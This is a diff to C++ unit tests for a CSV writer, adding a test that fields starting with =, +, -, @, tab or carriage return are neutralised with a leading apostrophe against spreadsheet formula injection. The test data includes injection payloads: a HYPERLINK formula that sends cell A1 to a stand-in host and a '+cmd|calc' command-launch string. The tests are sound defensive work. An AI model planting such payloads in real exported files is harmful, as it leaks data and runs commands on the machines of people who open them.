@@ -117,11 +117,30 @@ TEST(CsvWriter, TrickyFieldsRoundTrip) {
         {"4", "", ""},
         {"", "", ""},
         {"5", ",,,", "\"\""},
-        {"6", "trailing comma,", "\r\n"},
+        {"6", "trailing comma,", "x\r\n"},
         {"7", "  spaces kept  ", "tab\tinside"},
         {"8", "lone\rcarriage return", "lone\nline feed"},
     };
     EXPECT_EQ(read_csv(write_rows(rows)), rows);
+}
+
+// SPEC §5: what a spreadsheet would run as a formula is written after a '.
+TEST(CsvWriter, AFieldThatWouldRunAsAFormulaGetsAQuoteMarkBeforeIt) {
+    const Records rows = {
+        {"=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "+cmd|calc", "-2+3", "@SUM(A1)"},
+        {"\tTAB first", "\rCR first", "\r\nCRLF first", "a=b+c-d@e"},
+        {"", "'already", "-", "plain"},
+    };
+    const std::string text = write_rows(rows);
+    const Records expected = {
+        {"'=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "'+cmd|calc", "'-2+3", "'@SUM(A1)"},
+        {"'\tTAB first", "'\rCR first", "'\r\nCRLF first", "a=b+c-d@e"},
+        {"", "'already", "'-", "plain"},
+    };
+    EXPECT_EQ(read_csv(text), expected) << text;
+    // The quote mark goes inside the quotes of a quoted field.
+    EXPECT_EQ(text.substr(0, 3), "\"'=") << text;
+    EXPECT_NE(text.find(",'+cmd|calc,"), std::string::npos) << text;
 }
 
 TEST(CsvWriter, ARecordOfOneEmptyFieldIsNotABlankLine) {
